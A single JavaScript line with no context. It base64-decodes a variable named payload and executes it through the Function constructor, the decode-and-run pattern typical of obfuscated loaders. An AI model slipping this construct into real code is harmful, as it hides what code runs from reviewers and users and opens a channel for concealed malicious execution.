new Function(atob(payload))()
